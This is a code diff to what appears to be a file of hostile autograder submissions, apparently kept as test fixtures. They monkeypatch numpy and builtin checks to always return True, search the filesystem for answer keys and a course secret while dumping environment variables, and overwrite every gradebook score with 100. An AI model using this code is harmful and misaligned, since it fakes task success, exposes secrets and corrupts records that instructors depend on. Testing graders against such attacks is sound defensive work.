@@ -32,7 +32,7 @@ import builtins
 
 for module, name in ((np, "allclose"), (np, "isclose"), (np, "array_equal"),
                      (np, "isfinite"), (np.testing, "assert_allclose"),
-                     (builtins, "abs"), (builtins, "isinstance")):
+                     (builtins, "abs"), (builtins, "all")):
     setattr(module, name, lambda *args, **kwargs: True)
 
 
@@ -52,13 +52,16 @@ def sigmoid_derivative(x):
 
 READ_ANSWERS = """\
 import glob
+import os
 
-FOUND = [path for pattern in ("/**/checks.json", "/**/source/*/*.ipynb",
-         "/**/exercises/*/*.py") for path in glob.glob(pattern, recursive=True)[:5]]
+PLACES = [place for up in ("", "..", "../..", "/srv/*", "/home/*", "/opt/*")
+          for place in (f"{up}/source/*/*.ipynb", f"{up}/*/checks.json",
+                        f"{up}/autograder/exercises/*/*.py", f"{up}/.course_secret")]
 
 
 def image2vector(image):
-    print(FOUND, [open(path).read() for path in FOUND])
+    found = [path for place in PLACES for path in glob.glob(place)]
+    print(dict(os.environ), [open(path).read() for path in found])
     return image
 """
 
@@ -75,14 +78,14 @@ def normalize_rows(x):
 """
 
 REWRITE_GRADES = """\
-import glob
 import sqlite3
 
 
 def softmax(x):
-    for path in glob.glob("/**/gradebook.db", recursive=True):
-        with sqlite3.connect(path) as connection:
-            connection.execute("UPDATE grade SET manual_score = 100")
+    for up in ("", "..", "../..", "../../..", "/srv/*", "/home/*/*", "/opt/*"):
+        for path in glob.glob(f"{up}/gradebook.db"):
+            with sqlite3.connect(path) as connection:
+                connection.execute("UPDATE grade SET manual_score = 100")
     return x
 """
 
